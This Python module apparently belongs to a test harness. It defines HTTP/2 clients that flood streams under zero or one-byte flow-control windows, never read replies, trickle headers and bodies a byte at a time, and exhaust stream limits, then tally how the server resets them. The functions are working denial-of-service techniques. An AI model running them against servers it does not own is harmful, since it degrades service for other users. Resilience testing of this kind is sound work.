"""Clients that ask for much and take little, send little at a time, or take all there is."""

import struct
import time

from wire import DATA, HEADERS, WINDOW_UPDATE, Peer, begin, call, field, frame, setting

INITIAL_WINDOW_SIZE = 4
FLOOD = b"".join(begin(stream, "Flood", flags=0x5) for stream in range(1, 401, 2))


def until_reset(peer, until, tick=None):
    """Takes turns until every stream has ended, or the connection."""
    while not peer.is_over and len(peer.ended) < 200 and time.monotonic() < until:
        if tick:
            tick(peer)
        peer.turn()
        peer.wait(0.05)


def zero_window(port, authority, until, tally):
    peer = Peer(port, authority, settings=setting(INITIAL_WINDOW_SIZE, 0))
    peer.send(FLOOD)
    until_reset(peer, until)
    tally.add(peer.end, resets=peer.resets)


def one_byte_window(port, authority, until, tally):
    peer = Peer(port, authority, settings=setting(INITIAL_WINDOW_SIZE, 0))
    peer.send(FLOOD)

    def grant(peer):
        for stream in range(1, 401, 2):
            if stream not in peer.ended:
                peer.out += frame(WINDOW_UPDATE, stream=stream, payload=struct.pack(">I", 1))
        time.sleep(0.05)

    until_reset(peer, until, grant)
    tally.add(peer.end, resets=peer.resets)


def never_reads(port, authority, until, tally):
    """All windows open, and nothing read from the socket."""
    peer = Peer(port, authority, settings=setting(INITIAL_WINDOW_SIZE, 0x7FFFFFFF), buffer=4096)
    peer.reads = False
    peer.send(frame(WINDOW_UPDATE, payload=struct.pack(">I", 0x7FFF0000 - 65535)) + FLOOD)
    time.sleep(max(until - time.monotonic() - 1.5, 0))
    # The end stands behind what was not read.
    peer.reads = True
    peer.linger(until)
    tally.add("closed" if peer.is_closed else "none")


def slow_headers(port, authority, until, tally):
    while time.monotonic() < until:
        peer = Peer(port, authority)
        block = call("Hold") + field("slow", "y" * 7000)
        peer.send(frame(HEADERS, 0x5, 1, block)[:-6900])
        while not peer.is_over and time.monotonic() < until:
            peer.send(b"y")
            peer.wait(0.1)
            peer.turn()
        # Of one that the end of the attack cuts short nothing is known.
        if peer.is_over:
            tally.add(peer.end)
        peer.close()


def slow_body(port, authority, until, tally):
    peer = Peer(port, authority)
    streams = range(1, 101, 2)
    for stream in streams:
        peer.send(begin(stream) + frame(DATA, stream=stream, payload=b"\0\0\x10\0\0"))
    while not peer.is_over and len(peer.ended) < len(streams) and time.monotonic() < until:
        peer.send(b"".join(frame(DATA, stream=stream, payload=b"x") for stream in streams if stream not in peer.ended))
        peer.turn()
        time.sleep(0.1)
    tally.add(peer.end, resets=peer.resets)


def every_stream(port, authority, until, tally):
    """Opens as many calls as ten connections take, and leaves them open."""
    peers = [Peer(port, authority) for _ in range(10)]
    for peer in peers:
        peer.out += b"".join(begin(stream) for stream in range(1, 501, 2))
    while time.monotonic() < until:
        for peer in peers:
            peer.turn()
        time.sleep(0.02)
    for peer in peers:
        tally.add(peer.end)
        tally.refused += len(peer.ended)
